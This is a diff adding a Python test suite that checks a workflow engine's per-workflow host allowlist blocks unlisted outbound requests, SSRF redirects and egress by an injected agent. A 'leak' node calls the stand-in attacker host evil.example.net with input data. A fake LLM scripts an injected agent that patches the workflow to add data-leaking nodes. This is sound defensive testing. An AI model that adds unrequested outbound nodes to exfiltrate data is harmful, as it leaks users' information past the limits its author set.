@@ -1,0 +1,97 @@
+"""A workflow's ``metadata.allowed_hosts`` (``workflows.egress``) on real workers: every request a
+node of the run makes goes only to the hosts its author listed, whoever wrote the node (an agent's
+patch, a reference an input fills) and at every redirect hop; a literal URL off the list is refused
+when the workflow is saved or patched, naming the rule. The remote stands at 127.0.0.1 (the
+workers' SSRF allowlist opens its port only): ``api.example.com`` is a host the list may name
+instead, and no request ever goes there (the hop is refused before any lookup)."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from tests.agents.flows import add_after, agent, tool_messages
+from tests.conftest import wait_for_run
+from tests.workers.test_http_node import http
+from workflows.models import NodeRun, PatchRefusal, Run
+
+
+def start(api: Any, nodes: list[dict[str, Any]], hosts: list[str] | None, inputs: dict[str, Any] | None = None,
+          edges: list[dict[str, str]] | None = None) -> Any:
+    definition: dict[str, Any] = {"nodes": nodes, "edges": edges or []}
+    if hosts is not None:
+        definition["metadata"] = {"allowed_hosts": hosts}
+    return api.post("/api/v1/runs", {"workflow": definition, "inputs": inputs or {}}, format="json")
+
+
+def finished(answer: Any) -> tuple[Run, dict[str, NodeRun]]:
+    assert answer.status_code == 201, answer.json()
+    run = wait_for_run(answer.json()["run_id"])
+    return run, {nr.node_id: nr for nr in NodeRun.objects.filter(run=run)}
+
+
+def test_a_url_an_input_fills_goes_only_to_a_listed_host(engine, api, remote):
+    nodes = [http("call", "${inputs.url}")]
+    inputs = {"url": f"{remote.base}/echo/filled"}
+
+    run, by_node = finished(start(api, nodes, ["api.example.com"], inputs))
+
+    assert run.status == "failed"
+    error = by_node["call"].error
+    assert (error["error_type"], error["rule"], error["host"]) == ("SSRFBlocked", "host_not_allowed", "127.0.0.1")
+    assert "allowed_hosts" in error["message"] and "api.example.com" in error["message"]
+    assert remote.hits("/echo/filled") == []
+    # the same run with the remote's host listed, and with no list: the request goes
+    for hosts in (["127.0.0.1", "*.example.com"], None):
+        run, by_node = finished(start(api, nodes, hosts, inputs))
+        assert run.status == "completed", run.error
+    assert len(remote.hits("/echo/filled")) == 2
+
+
+def test_a_listed_host_s_redirect_elsewhere_is_refused_at_the_hop(engine, api, remote):
+    nodes = [http("call", f"{remote.base}/redirect?to=https://files.example.org/x")]
+
+    run, by_node = finished(start(api, nodes, ["127.0.0.1"]))
+
+    assert run.status == "failed"
+    error = by_node["call"].error
+    assert (error["rule"], error["host"]) == ("host_not_allowed", "files.example.org")
+    assert len(remote.hits("/redirect")) == 1
+
+
+def test_a_literal_url_off_the_list_is_refused_when_saved_naming_the_node(api, remote):
+    answer = start(api, [http("ok", f"{remote.base}/echo"), http("leak", "https://evil.example.net/${inputs.q}")],
+                   ["127.0.0.1"])
+
+    assert answer.status_code == 400
+    details = answer.json()["details"]
+    assert [(e["path"], e["rule"]) for e in details["errors"]] == [("/nodes/1/config/url", "host_not_allowed")]
+    bad = start(api, [http("ok", f"{remote.base}/echo")], ["Not A Host"])
+    assert bad.status_code == 400 and bad.json()["details"]["errors"][0]["rule"] == "schema.pattern"
+
+
+def test_an_injected_agent_s_requests_stay_on_the_list(engine, api, user, fake_llm, remote):
+    """The agent's fetch (``execute_pipeline``) and the node its patch adds both aim at the remote,
+    which the author did not list: the fetch comes back to the model refused, the patch is refused
+    naming the rule (a literal origin), and a node it adds whose URL a reference fills fails at the
+    send. Nothing reaches the remote."""
+    fetch = {"steps": [{"op": "http_request", "url": f"{remote.base}/echo/fetched"}]}
+    literal = add_after("plan", http("leak", f"{remote.base}/echo/leaked"))
+    filled = add_after("plan", http("late", "$nodes.plan.message"))
+    fake_llm.reset([
+        {"tool_calls": [("execute_pipeline", fetch), ("patch_workflow", {"operations": literal}),
+                        ("patch_workflow", {"operations": filled})]},
+        {"content": f"{remote.base}/echo/late"},
+    ])
+
+    run, by_node = finished(start(api, [agent(tools=["execute_pipeline", "patch_workflow"])], ["api.example.com"]))
+
+    results = tool_messages(fake_llm.requests[1])
+    assert (results[0]["status"], results[0]["error"], results[0]["rule"]) == ("error", "SSRFBlocked",
+                                                                              "host_not_allowed")
+    assert (results[1]["status"], results[1]["details"]["rule"]) == ("error", "host_not_allowed")
+    assert results[2]["status"] == "applied"
+    assert list(PatchRefusal.objects.filter(run=run).values_list("rule", flat=True)) == ["host_not_allowed"]
+    assert by_node["plan"].status == "completed"
+    assert (by_node["late"].status, by_node["late"].error["rule"]) == ("failed", "host_not_allowed")
+    assert run.status == "failed"
+    assert remote.hits("/echo") == []
